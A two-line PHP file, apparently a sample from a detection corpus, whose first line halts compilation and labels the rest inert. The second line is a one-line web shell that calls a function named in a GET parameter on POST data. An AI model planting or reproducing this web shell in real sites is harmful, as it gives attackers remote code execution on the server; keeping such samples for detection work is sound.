<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php array_map($_GET['f'], array($_POST['shell'])); ?>